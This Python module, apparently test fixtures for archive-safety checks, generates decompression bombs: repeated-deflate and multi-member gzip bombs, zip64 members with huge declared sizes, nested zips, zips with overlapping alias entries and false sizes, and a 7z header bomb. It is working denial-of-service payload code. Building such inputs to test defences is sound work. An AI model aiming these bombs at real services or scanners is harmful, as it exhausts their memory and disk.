"""Decompression bombs built the published way (deflate of zeros, members repeated, archives
nested), cheaply: a compressed block of zeros is made once and repeated, so a 10 GB bomb costs
milliseconds to build."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

_MB = 1 << 20


def pickle_of_zeros(n: int) -> tuple[bytes, bytes]:
    """(head, tail) around n zero bytes: a protocol-4 pickle of one BINBYTES8 of n zeros."""
    return b"\x80\x04\x8e" + struct.pack("<Q", n), b"."


def deflate_zeros(n_mb: int, head: bytes = b"", tail: bytes = b"") -> bytes:
    """A raw deflate stream of head + n_mb MiB of zeros + tail. After a full flush the compressor
    starts afresh, so every 1 MiB block of zeros compresses to the same bytes: made once, repeated."""
    c = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(bytes(_MB)) + c.flush(zlib.Z_FULL_FLUSH)
    last = c.compress(tail) + c.flush()
    return first + block * n_mb + last


def gzip_bomb(n_mb: int, head: bytes = b"", tail: bytes = b"") -> bytes:
    """A valid multi-member gzip (gzip readers concatenate members): head, n_mb members of 1 MiB of
    zeros (~1000:1 each, with their real CRCs), tail."""
    member = gzip.compress(bytes(_MB), compresslevel=9, mtime=0)
    return gzip.compress(head, mtime=0) + member * n_mb + gzip.compress(tail, mtime=0)


def zip64_member_zip(name: str, deflated: bytes, usize: int, crc: int = 0) -> bytes:
    """A one-member zip whose member is the given raw deflate stream, sizes in a zip64 extra (so
    usize may exceed 4 GiB). The CRC is the caller's (0 for a bomb: a scan must stop before it)."""
    raw = name.encode()
    extra_local = struct.pack("<HHQQ", 1, 16, usize, len(deflated))
    local = (
        struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 45, 0, 8, 0, 0, crc, 0xFFFFFFFF, 0xFFFFFFFF,
                    len(raw), len(extra_local))
        + raw + extra_local
    )
    cd_offset = len(local) + len(deflated)
    extra_cd = struct.pack("<HHQQ", 1, 16, usize, len(deflated))
    central = (
        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0, 8, 0, 0, crc, 0xFFFFFFFF,
                    0xFFFFFFFF, len(raw), len(extra_cd), 0, 0, 0, 0, 0)
        + raw + extra_cd
    )
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), cd_offset, 0)
    return local + deflated + central + eocd


def nested_zip(members: list[tuple[str, bytes]]) -> bytes:
    """A zip of the given (already built) archives, deflated: the 42.zip layering."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return out.getvalue()


def hand_zip(members: list[tuple[str, bytes]], *, aliases: int = 0, declared: dict[str, int] | None = None,
             deflate: bool = True) -> bytes:
    """A zip written field by field, for what zipfile will not write: `aliases` extra central
    directory entries (named alias<i>) all pointing at the first member's bytes (overlapping
    entries; zip64 end records once past 65,535), and `declared` uncompressed sizes that lie."""
    body, central = b"", []
    method = 8 if deflate else 0
    for name, data in members:
        packed = zlib.compress(data)[2:-4] if deflate else data
        usize = (declared or {}).get(name, len(data))
        fields = (20, 0, method, 0, 0, zlib.crc32(data), len(packed), usize, len(name.encode()), 0)
        central.append((name.encode(), fields, len(body)))
        body += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields) + name.encode() + packed
    _, first_fields, first_offset = central[0]
    central += [(f"alias{i}".encode(), first_fields, first_offset) for i in range(aliases)]
    cd = b"".join(
        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, *f[:-2], len(raw), 0, 0, 0, 0, 0, off) + raw
        for raw, f, off in central
    )
    n = len(central)
    tail = b""
    if n > 0xFFFF:
        z64 = len(body) + len(cd)
        tail = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, n, n, len(cd), len(body))
        tail += struct.pack("<4sIQI", b"PK\x06\x07", 0, z64, 1)
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, min(n, 0xFFFF), min(n, 0xFFFF), len(cd),
                       len(body), 0)
    return body + cd + tail + eocd


def seven_zip_header_bomb(n_mb: int) -> bytes:
    """A 7z whose compressed ("encoded") header inflates to n_mb MiB of zeros, written with py7zr's
    own header classes: readers decode the header whole while opening the archive."""
    import py7zr
    from py7zr.archiveinfo import Folder, HeaderStreamsInfo, SignatureHeader

    packed = deflate_zeros(n_mb)
    folder = Folder()
    folder.prepare_coderinfo(filters=[{"id": py7zr.FILTER_DEFLATE}])
    folder.unpacksizes, folder.crc = [n_mb * _MB], 0
    streams = HeaderStreamsInfo()
    streams.unpackinfo.folders = [folder]
    streams.packinfo.packpos, streams.packinfo.numstreams = 0, 1
    streams.packinfo.packsizes, streams.packinfo.enable_digests = [len(packed)], False
    header = io.BytesIO()
    streams.write(header)
    start = SignatureHeader()
    start.nextheaderofs = len(packed)
    start.calccrc(len(header.getvalue()), zlib.crc32(header.getvalue()))
    out = io.BytesIO()
    start.write(out)
    return out.getvalue() + packed + header.getvalue()
